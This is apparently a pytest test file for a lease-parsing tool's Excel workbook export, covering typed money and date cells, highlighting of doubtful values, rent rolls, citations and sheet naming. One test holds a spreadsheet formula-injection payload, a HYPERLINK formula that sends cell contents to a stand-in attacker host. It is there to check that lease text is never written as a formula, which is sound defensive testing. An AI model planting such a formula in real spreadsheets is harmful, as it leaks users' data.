"""The Excel abstract (portfolio/workbook.py), read back with openpyxl: money as numbers with
a currency format, dates as dates, doubtful values highlighted, citations in a column, and
lease text never a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from typing import Any

import openpyxl
import pytest

from lease_parser.portfolio.terms import current_terms
from lease_parser.portfolio.workbook import DOUBTFUL, sheet_title, write_workbook
from lease_parser.store import DocumentRow, LeaseRecord
from tests.unit.portfolio.helpers import LEASE, amendment, stored

TODAY = dt.date(2026, 1, 5)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def record(values: dict[str, Any], doc_hash: str = "a" * 64, **changes: Any) -> LeaseRecord:
    lease = stored(values, doc_hash=doc_hash, **changes)
    for name, confidence in (("renewal_notice", 0.55),):
        lease.fields[name]["confidence"] = confidence  # type: ignore[index]
    extension = amendment({"lease_date": "2029-06-15", "expiration_date": "2035-07-31"}, 1)
    row = DocumentRow(
        doc_hash=doc_hash,
        doc_key=lease.source.doc_key,
        state="committed",
        confidence=0.93,
        reviewer="alice",
    )
    return LeaseRecord(row, current_terms(lease, [extension]))


@pytest.fixture(scope="module")
def workbook() -> openpyxl.Workbook:
    out = io.BytesIO()
    gbp = {**LEASE, "tenant": HOSTILE, "currency": "GBP"}
    records = [record(LEASE), record(gbp, doc_hash="b" * 64, key="leases/=evil:[1].pdf")]
    assert write_workbook(records, out, gate=0.9, today=TODAY) == 2
    out.seek(0)
    return openpyxl.load_workbook(out)


def rows(ws: Any) -> list[tuple[Any, ...]]:
    return list(ws.iter_rows(values_only=True))


def test_sheets_are_the_portfolio_rent_roll_dates_and_one_per_lease(
    workbook: openpyxl.Workbook,
) -> None:
    assert workbook.sheetnames == [
        "Portfolio",
        "Rent roll",
        "Critical dates",
        "brightwater-aaaaaaaa",
        "=evil__1_-bbbbbbbb",
    ]


def test_portfolio_rows_hold_current_terms_typed(workbook: openpyxl.Workbook) -> None:
    ws = workbook["Portfolio"]
    header, first = rows(ws)[0], ws[2]
    cell = {name: first[i] for i, name in enumerate(header)}
    assert cell["Tenant"].value == "Brightwater Labs, Inc."
    assert cell["Expiration"].value == dt.datetime(2035, 7, 31)  # the amendment's
    assert cell["Expiration"].number_format == "yyyy-mm-dd"
    assert cell["Monthly base rent"].value == 20000
    assert cell["Monthly base rent"].number_format == '"$"#,##0.00'
    assert cell["Rentable sq ft"].value == 8000
    assert cell["Renewal notice"].value == "9–12 months"
    assert cell["Renewal notice"].fill.fgColor.rgb == DOUBTFUL.fgColor.rgb  # 0.55 < gate
    assert cell["Monthly base rent"].fill.fgColor.rgb != DOUBTFUL.fgColor.rgb
    assert (cell["State"].value, cell["Confidence"].value, cell["Reviewer"].value) == (
        "committed",
        0.93,
        "alice",
    )
    assert cell["Amendments applied"].value == 1
    assert cell["Next critical date"].value == dt.datetime(2026, 5, 1)
    assert cell["Sheet"].hyperlink.location == "'brightwater-aaaaaaaa'!A1"
    second = {name: ws[3][i] for i, name in enumerate(header)}
    assert second["Monthly base rent"].number_format == '"£"#,##0.00'


def test_rent_roll_has_every_step_monthly_annual_and_per_foot(workbook: openpyxl.Workbook) -> None:
    lease_rows = [r for r in rows(workbook["Rent roll"])[1:] if r[1] == "Brightwater Labs, Inc."]
    assert [(r[2], r[3], r[5], r[6]) for r in lease_rows] == [
        (1, dt.datetime(2025, 5, 1), 20000, 240000),
        (2, dt.datetime(2026, 5, 1), 20600, 247200),
        (3, dt.datetime(2027, 5, 1), 21218, 254616),
    ]
    assert [r[7] for r in lease_rows] == [30, 30.9, 31.83]  # annual per sq ft of 8,000


def test_critical_dates_with_confidence_and_citations(workbook: openpyxl.Workbook) -> None:
    events = [r for r in rows(workbook["Critical dates"])[1:] if r[3] == "Brightwater Labs, Inc."]
    deadline = next(r for r in events if r[1] == "renewal_notice_deadline")
    assert deadline[0] == dt.datetime(2034, 10, 31)
    assert deadline[5] == 0.55
    assert deadline[6] == "no: check the lease"
    assert 'renewal_notice (leases/brightwater.pdf p.1): "... renewal_notice ..."' in deadline[7]


def test_each_lease_sheet_cites_every_field_and_logs_the_changes(
    workbook: openpyxl.Workbook,
) -> None:
    sheet = rows(workbook["brightwater-aaaaaaaa"])
    changed = [r[0] for r in sheet].index("Changed")
    fields = {r[0]: r for r in sheet[:changed] if r[0] in LEASE}
    expiration = fields["expiration_date"]
    assert expiration[1] == dt.datetime(2035, 7, 31)
    assert (expiration[3], expiration[5]) == (1, "Amendment 1")
    assert fields["tenant"][4] == "... tenant ..."  # the cited text
    assert fields["base_rent_monthly"][1] == 20000
    log = sheet[changed + 1 :]
    assert log[0][:3] == ("expiration_date", "2030-07-31", "2035-07-31")
    assert log[0][4:] == ("Amendment 1", "2029-06-15", None)


def test_lease_text_is_never_a_formula(workbook: openpyxl.Workbook) -> None:
    cell = workbook["Portfolio"]["B3"]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")
    # Nowhere in the file is there a formula element.
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as xlsx:
        sheets = [n for n in xlsx.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert not any(b"<f>" in xlsx.read(n) for n in sheets)


def test_sheet_titles_are_valid_and_unique() -> None:
    taken: set[str] = set()
    first = sheet_title("a/very/long:name[with]*bad?chars.pdf", "c" * 64, taken)
    second = sheet_title("a/very/long:name[with]*bad?chars.pdf", "c" * 63 + "d", taken)
    assert len(first) <= 31
    assert not set("[]:*?/\\'") & set(first)
    assert first != second
    assert len(second) <= 31


def test_a_field_the_model_was_not_calibrated_on_is_filled_unchecked() -> None:
    """A letter of credit has no labelled examples yet: its score clears no gate, so its
    value is filled like a doubtful one unless a person set it."""
    values = {**LEASE, "letter_of_credit": "100000.00", "guarantor": "Brightwater Holdings LLC"}
    lease = stored(values)
    lease.fields["guarantor"]["confidence"] = 1.0  # type: ignore[index]  # a reviewer's
    row = DocumentRow(doc_hash="c" * 64, doc_key=lease.source.doc_key, state="committed")
    out = io.BytesIO()
    measured = set(LEASE) - {"letter_of_credit", "guarantor"}
    write_workbook([LeaseRecord(row, current_terms(lease, []))], out, 0.9, TODAY, measured)
    out.seek(0)
    ws = openpyxl.load_workbook(out)["Portfolio"]
    header, first = rows(ws)[0], ws[2]
    cell = {name: first[i] for i, name in enumerate(header)}
    assert cell["Letter of credit"].value == 100000
    assert cell["Letter of credit"].fill.fgColor.rgb == DOUBTFUL.fgColor.rgb  # 0.95, unmeasured
    assert cell["Guarantor"].fill.fgColor.rgb != DOUBTFUL.fgColor.rgb  # set by a person
    assert cell["Monthly base rent"].fill.fgColor.rgb != DOUBTFUL.fgColor.rgb
